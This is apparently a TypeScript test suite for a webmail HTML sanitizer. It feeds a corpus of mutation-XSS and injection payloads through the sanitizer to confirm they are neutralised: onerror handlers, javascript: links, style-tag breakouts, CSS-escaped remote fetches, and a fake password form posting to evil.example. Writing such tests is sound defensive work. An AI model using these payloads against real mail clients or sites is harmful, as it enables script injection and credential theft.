// The webmail's HTML sanitizer (issue 18, finding 7), run on jsdom's standard HTML parser: the
// payloads of the finding, the classic mutation-XSS shapes, idempotence, the structural
// invariants of the output on a corpus, and linear time on hostile markup.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { assertLinear } from "../../../src/testing/complexity";
import { parseHtml } from "../testing/dom";
import { MAX_OPEN_TAGS } from "./open-tags";
import { frameDocument, type SanitizeOptions, sanitizeHtml } from "./sanitize";

/** cid → a cid: URL again, so that the output is accepted by a second sanitize. */
const cidUrl = (cid: string) => `cid:${encodeURIComponent(cid)}`;
const opts = (o: Partial<SanitizeOptions> = {}): SanitizeOptions => ({
  allowRemote: false,
  cidUrl,
  parse: parseHtml,
  ...o,
});
const clean = (html: string, o: Partial<SanitizeOptions> = {}) => sanitizeHtml(html, opts(o));

// biome-ignore format: a word list reads better packed
const EMITTED = new Set([
  "html", "head", "body", "style", "a", "abbr", "address", "article", "aside", "b", "bdi", "bdo", "big",
  "blockquote", "br", "caption", "center", "cite", "code", "col", "colgroup", "dd", "del", "details", "dfn",
  "div", "dl", "dt", "em", "figcaption", "figure", "font", "footer", "h1", "h2", "h3", "h4", "h5", "h6",
  "header", "hr", "i", "img", "ins", "kbd", "li", "main", "mark", "nav", "ol", "p", "pre", "q", "rp", "rt",
  "ruby", "s", "samp", "section", "small", "span", "strike", "strong", "sub", "summary", "sup", "table",
  "tbody", "td", "tfoot", "th", "thead", "time", "tr", "tt", "u", "ul", "var", "wbr",
]);

/**
 * What the reading frame gets, parsed as the frame parses it: only allowed HTML elements, no
 * event handler, links http(s)/mailto/#, images cid/data:image(/https when allowed), CSS without
 * a fetching function, and the frame's own head (one CSP, one base) untouched.
 */
function assertSafe(content: string, allowRemote = false) {
  const doc = parseHtml(frameDocument(content, allowRemote));
  assert.equal(doc.querySelectorAll("meta").length, 3, "only the frame's own meta elements");
  assert.equal(doc.querySelectorAll("base").length, 1, "only the frame's own base");
  assert.equal(doc.querySelectorAll("head > meta[http-equiv]").length, 1);
  for (const el of doc.body.querySelectorAll("*")) {
    assert.equal(el.namespaceURI, "http://www.w3.org/1999/xhtml", el.outerHTML);
    assert.ok(EMITTED.has(el.localName), `element <${el.localName}> in ${content}`);
    assert.notEqual(el.localName, "style", "styles are in the head");
    for (const a of el.attributes) {
      assert.ok(!a.name.startsWith("on"), `handler ${a.name}`);
      if (a.name === "href") assert.match(a.value, /^\s*(?:https?:|mailto:|#)/i);
      if (a.name === "src")
        assert.match(a.value, allowRemote ? /^(?:cid:|data:image\/|https:)/ : /^(?:cid:|data:image\/)/);
      if (a.name === "style" && !allowRemote)
        assert.ok(!/url\(|image-set\(|@import|expression\(/i.test(a.value), a.value);
    }
  }
  for (const st of doc.querySelectorAll("style")) {
    assert.equal(st.parentElement?.localName, "head");
    if (!allowRemote)
      assert.ok(!/url\(|image-set\(|@import|expression\(/i.test(st.textContent ?? ""), st.textContent);
  }
}

describe("sanitizeHtml: the payloads of the finding", () => {
  test("`</</stylestyle>` does not close the style element: no link, no form, no fake markup", () => {
    const payload =
      '<style>p{}</</stylestyle><link rel=preconnect href="https://evil.example/">' +
      '<form action="https://evil.example/steal"><p>Session expired, enter your password</p>' +
      "<input type=password name=pw><button>Log in</button></form></style><p>Hello</p>";
    const out = clean(payload).html;
    assertSafe(out);
    const doc = parseHtml(frameDocument(out, false));
    assert.equal(doc.querySelectorAll("link, form, input, button").length, 0);
    assert.equal(doc.body.innerHTML, "<p>Hello</p>", "the style's text stays text of the style");
    assert.ok(!/<\/style>\s*<link/i.test(out), out);
  });

  test("a <link rel=preconnect> or <meta refresh> anywhere is dropped", () => {
    const out = clean(
      '<head><link rel=preconnect href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example"></head><body><link rel=stylesheet href=https://evil.example/s.css><p>x',
    ).html;
    assert.equal(out, "<p>x</p>");
  });

  test("forms and their controls are dropped, with their content", () => {
    assert.equal(
      clean("<form><input name=a><button>b</button><select><option>c</select><textarea>d</textarea></form>e")
        .html,
      "e",
    );
  });

  test("CSS escapes do not pass the fetch filter (\\75 rl(, @\\69mport, comments in names)", () => {
    const r = clean(
      "<style>p{background:\\75 rl(https://evil.example/a)}@\\69mport 'https://evil.example/b.css';</style>" +
        '<p style="background:u\\72l(https://evil.example/c)">x</p>',
    );
    assertSafe(r.html);
    assert.ok(!r.html.includes("evil.example/a"), r.html);
    assert.equal(r.blockedRemote, 3);
  });

  test("a malformed %-escape in a cid: URL drops that image and throws nothing", () => {
    const seen: string[] = [];
    const r = sanitizeHtml('<img src="cid:%E0%A4%A" alt=a><img src="cid:part1%40example.test" alt=b>', {
      ...opts(),
      cidUrl: (cid) => {
        seen.push(cid);
        return `/download/${cid}`;
      },
    });
    assert.deepEqual(seen, ["part1@example.test"]);
    assert.equal(r.html, '<img alt="a"><img src="/download/part1@example.test" alt="b">');
  });
});

describe("sanitizeHtml: markup nested too deep for the browser's parser", () => {
  test("is shown as text, without parsing it, idempotently", () => {
    let parsed = 0;
    const deep = `<p>Hi &amp; bye</p>\r\n${"<x-a>".repeat(MAX_OPEN_TAGS + 1)}<script>alert(1)</script>end`;
    const r = clean(deep, {
      parse: (h) => {
        parsed++;
        return parseHtml(h);
      },
    });
    assert.equal(parsed, 0);
    assert.equal(r.html, "<pre>Hi &amp;amp; bye\nalert(1)end</pre>");
    assertSafe(r.html);
    assert.equal(clean(r.html).html, r.html);
  });

  test("a long message of unclosed paragraphs below the limit is parsed as usual", () => {
    const html = "<p>para".repeat(2000);
    assert.equal(clean(html).html, "<p>para</p>".repeat(2000));
  });
});

describe("sanitizeHtml: what it keeps (the reader still shows mail)", () => {
  test("links open in a new tab without referrer; other schemes lose their href", () => {
    assert.equal(
      clean(
        '<a href="https://ok.example/?a=1&b=2">o</a><a href="javascript:alert(1)">j</a><a href="#top">t</a>',
      ).html,
      '<a href="https://ok.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">o</a><a>j</a>' +
        '<a href="#top" target="_blank" rel="noopener noreferrer">t</a>',
    );
  });

  test("remote images are blocked and counted, then shown (over https) when allowed", () => {
    const html = '<img src="http://img.example/a.png"><td background="https://img.example/b.png">';
    const blocked = clean(`<table><tr>${html}</table>`);
    assert.equal(blocked.blockedRemote, 2);
    assert.equal(blocked.html, "<img><table><tbody><tr><td></td></tr></tbody></table>");
    const shown = clean(`<table><tr>${html}</table>`, { allowRemote: true });
    assert.equal(shown.blockedRemote, 0);
    assert.match(shown.html, /<img src="https:\/\/img\.example\/a\.png">/);
    assert.match(shown.html, /<td background="https:\/\/img\.example\/b\.png">/);
  });

  test("data: images stay, other data: URLs go", () => {
    assert.equal(
      clean('<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:text/html;base64,PHNjcmlwdD4=">')
        .html,
      '<img src="data:image/png;base64,iVBORw0KGgo="><img>',
    );
  });

  test("head and body styles are kept (cleaned), in order, ahead of the body", () => {
    assert.equal(
      clean(
        "<html><head><style>h1{color:red}</style></head><body><p>a</p><style>p{color:blue}</style></body>",
      ).html,
      "<style>h1{color:red}</style><style>p{color:blue}</style><p>a</p>",
    );
  });

  test("unknown elements give their content; script, svg and math go with theirs", () => {
    assert.equal(
      clean("<x-card><b>a</b></x-card><script>b</script><svg><text>c</text></svg><math><mi>d</mi></math>e")
        .html,
      "<b>a</b>e",
    );
  });
});

// The classic mutation-XSS shapes and other tricky markup.
const CORPUS = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  "<!--<img src=x onerror=alert(1)>-->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<style>p{}</</stylestyle><link rel=preconnect href=https://evil.example><p>x",
  "<style><style/><img src=x onerror=alert(1)>",
  "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<template><img src=x onerror=alert(1)></template>",
  '<a href="jav&#x09;ascript:alert(1)">a</a><a href=" javascript:alert(1)">b</a>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">&lt;script&gt;</p>',
  "<ul><li>a<aside><li>b</aside></ul><p><marquee><div>x</div></marquee><a>1<marquee><a>2</marquee></a>",
  "<table><tr><td>a<table>b<tr><td>c</table><p>d<form>e</table>f",
  "<pre>\n\nx</pre><pre><x-a>\ny</x-a></pre><pre><script></script>\nz</pre><pre><!---->\n\nw</pre>",
  "<ul><li>a<fieldset><li>b</fieldset></ul><p><legend><div>c</div></legend><dl><dt>d<menu><dd>e</menu></dl>",
  "<nobr>a<nobr>b</nobr></nobr><o:p>c</o:p><center><font face=x>d</font></center>",
  "<p>a<p>b<div>c</p>d<li>e<dd>f<dt>g",
  "<b><i><u>a</b>b</i>c</u><a href=#x><p>d</a>e",
  "<select><option><img src=x onerror=alert(1)></select><keygen><isindex>",
  "<frameset><frame src=https://evil.example></frameset>",
  "<!doctype html><html><body bgcolor=red onload=alert(1)><p>x</p></body></html><p>after",
  '<img src=cid:%3Cpart%40x%3E><img src="cid:a"b><base href=https://evil.example/>',
  "<p style=\"background:url(&quot;https://evil.example&quot;)\">s</p><p style='color:\\3c /style\\3e'>t</p>",
  "\u0000<p>\u0000a\u0000</p>\r\n \t<p>b",
  "<div><div><div><span></div>a</span></span>b",
];

describe("sanitizeHtml: idempotent and safe on tricky markup", () => {
  for (const [k, html] of CORPUS.entries()) {
    test(`#${k} ${JSON.stringify(html).slice(0, 70)}`, () => {
      for (const allowRemote of [false, true]) {
        const once = clean(html, { allowRemote }).html;
        assertSafe(once, allowRemote);
        assert.equal(clean(once, { allowRemote }).html, once, "sanitize(sanitize(x)) === sanitize(x)");
      }
    });
  }

  test("no payload of the corpus leaves a dangerous tag as markup (only as escaped text)", () => {
    const all = CORPUS.map((h) => clean(h).html).join("\n");
    assert.ok(
      !/<(?:script|link|form|input|button|meta|base|iframe|frame|svg|math|noscript|template)\b|<img src=x/i.test(
        all,
      ),
      all,
    );
  });
});

describe("sanitizeHtml: linear time on hostile markup", () => {
  // The reader's browser parses the message (Chromium stops nesting at depth 512); jsdom's parser
  // costs O(depth) per node, quadratic on deep nesting. So both parses, of the message and of the
  // first pass's output, are done outside the timing, and what is timed is the sanitizer's own
  // work: the walks, the CSS, the serializer. Fixed sizes (the small run takes a few ms): the
  // parses still count in the test's duration.
  const inputs: [string, number, (n: number) => string][] = [
    ["many <", 2000, (n) => "<".repeat(n * 4)],
    ["many unclosed tags", 500, (n) => "<a".repeat(n * 2)],
    ["deep nesting", 100, (n) => "<div>x".repeat(n)],
    ["deep unknown nesting", 100, (n) => "<x-a>x".repeat(n)],
    ["deep nesting of allowed inline elements", 100, (n) => "<span><b>x".repeat(n / 2)],
    [
      "many attributes",
      300,
      (n) => `<p ${Array.from({ length: n }, (_, i) => `a${i}=x style=color:red`).join(" ")}>x`,
    ],
    ["many styles", 300, (n) => "<style>p{}</style>".repeat(n)],
    ["many style-close tricks", 1000, (n) => `<style>${"</</stylestyle>".repeat(n)}</style>`],
    ["many cid images", 200, (n) => '<img src="cid:%E0%A4%A"><img src="cid:a%40b">'.repeat(n)],
  ];
  /** The input's document and, when there is a second pass, its input's document. */
  const preparse = (html: string): Document[] => {
    const docs: Document[] = [];
    sanitizeHtml(html, opts({ parse: (h) => docs[docs.push(parseHtml(h)) - 1]! }));
    return docs;
  };
  for (const [name, n, make] of inputs) {
    test(name, () => {
      assertLinear(
        `sanitizeHtml ${name}`,
        (n) => preparse(make(n)),
        (docs) => {
          let calls = 0;
          return sanitizeHtml("", opts({ parse: () => docs[calls++]! }));
        },
        { n, minMs: 0, maxRatio: 24 },
      );
    });
  }
});
